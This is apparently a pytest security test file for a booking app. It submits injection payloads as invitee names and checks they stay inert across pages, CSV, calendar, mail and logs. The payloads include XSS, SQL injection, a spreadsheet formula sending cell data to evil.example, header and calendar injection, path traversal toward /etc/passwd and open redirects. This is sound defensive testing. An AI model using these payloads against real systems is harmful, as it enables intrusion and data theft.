"""Hostile texts, sent by a stranger who books, on their whole way: page, table, calendar, mail, log, database."""

import asyncio
import http.client
import json
import re
import time
from email import message_from_bytes, policy
from urllib.parse import quote, urlsplit

import pytest
from icalendar import Calendar

from singleuse_app.scheduling.addresses import parse_email
from singleuse_app.scheduling.bookings import MAX_NAME_LENGTH, parse_text
from singleuse_app.scheduling.slugs import SLUG_LETTERS, slug_of
from singleuse_app.scheduling.texts import lines, one_line
from tests.harness.document import Document
from tests.harness.people import HostAtHome, ask
from tests.harness.server import Server
from tests.harness.socket_client import SocketClient

HOSTILE = {
    "html": "<img src=x onerror=alert(1)><script>alert(1)</script>",
    "markdown": "[x](javascript:alert(1)) ![y](//evil.example/z)",
    "sql": "'); DROP TABLE booking; --",
    "formula": '=HYPERLINK("https://evil.example?"&A1)',
    "calendar": "Ada\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:forged\r\nSUMMARY:forged",
    "mail": "Ada\r\nBcc: all@evil.example\r\n\r\nforged body",
    "terminal": "\x1b]0;owned\x07\x1b[2J\nERROR forged",
    "format": "{host} {0.__class__} %s %(x)s ${x} {{7*7}}",
    "bidi": "Ada \u202emoc.live@ada\u2066",
    "script-end": "</script></title></textarea>-->]]>",
}


@pytest.fixture(scope="module")
def host(server: Server) -> HostAtHome:
    return HostAtHome.set_up(server)


@pytest.fixture(scope="module")
def booked(host: HostAtHome) -> dict[str, str]:
    """The names under which each text was kept, by what kind of text it is."""

    async def book(text: str) -> None:
        link = host.new_link()
        async with SocketClient(host.server.url, f"/book/{link}", params={"token": link}) as tab:
            await tab.until(lambda tab: tab.value("booking_state.view") == "choose")
            start = tab.value("booking_state.choice")["times"][-1]["times"][-1]["value"]
            form = {"name": text, "email": "ada@example.org", "guests": "bob@example.org", "time": start}
            await tab.fire("booking_state.book", {"form": form})
            await tab.until(lambda tab: tab.value("booking_state.view") == "booked")

    async def all_of_them() -> None:
        for text in HOSTILE.values():
            await book(text)

    asyncio.run(all_of_them())
    names = [name for (name,) in host.server.rows("SELECT invitee_name FROM booking ORDER BY id")]
    return dict(zip(HOSTILE, names, strict=True))


@pytest.mark.thorough
def test_each_text_is_kept_as_one_line_of_text(booked: dict[str, str]) -> None:
    for kind, name in booked.items():
        assert name == one_line(HOSTILE[kind])
        assert name.isprintable()
    assert booked["sql"] == HOSTILE["sql"]


@pytest.mark.thorough
def test_no_cell_of_the_table_is_run(host: HostAtHome, booked: dict[str, str]) -> None:
    table = ask(f"{host.server.url}/api/bookings.csv", cookie=host.cookie).body
    assert "'=HYPERLINK" in table
    assert len(table.strip().splitlines()) == len(HOSTILE) + 1, "no text begins a row"


@pytest.mark.thorough
def test_no_text_begins_an_event_or_a_line_of_its_own_in_a_calendar(host: HostAtHome, booked: dict[str, str]) -> None:
    text = ask(f"{host.server.url}/api/bookings.ics", cookie=host.cookie).body
    events = list(Calendar.from_ical(text).walk("VEVENT"))
    assert len(events) == len(HOSTILE)
    assert "forged" not in {str(event["UID"]) for event in events}
    assert text.splitlines().count("BEGIN:VEVENT") == len(HOSTILE)
    assert not any(line.startswith(("UID:forged", "SUMMARY:forged")) for line in text.splitlines())


@pytest.mark.thorough
def test_no_text_becomes_a_header_or_a_recipient_of_a_mail(host: HostAtHome, booked: dict[str, str]) -> None:
    folder, until = host.server.folder / "mail", time.monotonic() + 60
    while len(files := list(folder.glob("*.eml"))) < 3 * len(HOSTILE):
        assert time.monotonic() < until, len(files)
        time.sleep(0.1)
    for file in files:
        mail = message_from_bytes(file.read_bytes(), policy=policy.default)
        assert mail["Bcc"] is None
        assert {address.addr_spec for address in mail["To"].addresses} <= {
            "ada@example.org",
            "bob@example.org",
            "grace@example.org",
        }
        html = mail.get_body(("html",))
        assert html is not None
        page = Document(html.get_content())
        assert not page.texts["script"]
        assert not any(name.startswith("on") for name in page.attributes)
        assert not re.search("""=["']?javascript:""", html.get_content())


@pytest.mark.thorough
async def test_no_text_leaves_its_place_on_a_page_or_in_the_log(host: HostAtHome, booked: dict[str, str]) -> None:
    async with SocketClient(host.server.url, "/bookings", cookie=host.cookie) as tab:
        await tab.until(lambda tab: tab.value("bookings_state.ready"))
        shown = json.dumps(tab.state)
        assert "onerror=alert" in shown, "as text, which React draws as text"
        assert "\\u202e" not in shown
    log = host.server.log()
    assert "Traceback" not in log
    assert not any(sign in log for sign in ("\x1b]0;owned", "\u202e"))
    assert not any(line.startswith("ERROR forged") for line in log.splitlines())


@pytest.mark.parametrize(
    "text", [*HOSTILE.values(), "%0d%0aSet-Cookie:x=1", "..%2f..%2fetc%2fpasswd", "%00", "%e2%80%ae"]
)
@pytest.mark.parametrize("path", ["/book/", "/manage/", "/with/x/", "/api/links/", "/"])
def test_no_address_is_repeated_by_what_answers_there(host: HostAtHome, path: str, text: str) -> None:
    answer = ask(f"{host.server.url}{path}{text if text.startswith(('%', '..')) else quote(text, safe='')}")
    assert answer.status in (400, 404, 405)
    assert "set-cookie" not in answer.headers
    for word in ("alert(1)", "evil.example", "DROP TABLE", "owned", "forged", "passwd"):
        assert word not in answer.body


@pytest.mark.parametrize(
    "path", ["//evil.example", "///evil.example/", "/\\evil.example", "/%5cevil.example", "//evil.example/%2e%2e"]
)
def test_no_address_leads_elsewhere(host: HostAtHome, path: str) -> None:
    connection = http.client.HTTPConnection(urlsplit(host.server.url).netloc)
    connection.request("GET", path)
    answer = connection.getresponse()
    answer.read()
    assert not (300 <= answer.status < 400) or answer.headers["Location"].startswith(("/", host.server.url))
    assert not (answer.headers["Location"] or "").startswith(("//", "/\\"))
    connection.close()


UNSEEN = "\u200b\u200d\u2060\ufeff\u202e\u2066\u00ad\u061c\u180e\u3164\u115f\u2800\U000e0041\x00"


@pytest.mark.parametrize("letter", UNSEEN)
def test_what_cannot_be_seen_is_no_name_and_changes_none(letter: str) -> None:
    assert one_line(f"Ada{letter} Lovelace") == "Ada Lovelace"
    assert parse_text(letter * 3, "name", MAX_NAME_LENGTH, wrong := {}) == ""
    assert wrong == {"name": "name_missing"}
    assert letter not in lines(f"a{letter}b\nc") or letter in "\u3164\u115f\u2800"


@pytest.mark.parametrize("letter", "\u00a0\u2003\u3000\u2028\u0085\t\r\n")
def test_every_kind_of_blank_is_one(letter: str) -> None:
    assert one_line(f"Ada{letter}Lovelace") == "Ada Lovelace"


@pytest.mark.parametrize(
    "name", ["Ada", "аdа", "ＡＤＡ", "a\u200bda", "..", "/", "%2e%2e", "\u202eada", "𝒶𝒹𝒶", "ada?x#y", "\u3164"]
)
def test_a_slug_has_only_letters_that_look_like_nothing_else(name: str) -> None:
    assert slug_of(name, otherwise="host").strip(SLUG_LETTERS) == ""
    assert slug_of(name, otherwise="host")


@pytest.mark.parametrize("letter", f"{UNSEEN}\u2028\n\r\t ,;:<>()")
@pytest.mark.parametrize("where", ["a{}da@example.org", "ada@exa{}mple.org"])
def test_an_address_that_hides_something_is_none(letter: str, where: str) -> None:
    parse_email(where.format(letter), wrong := {})
    assert wrong == {"email": "email_malformed"}
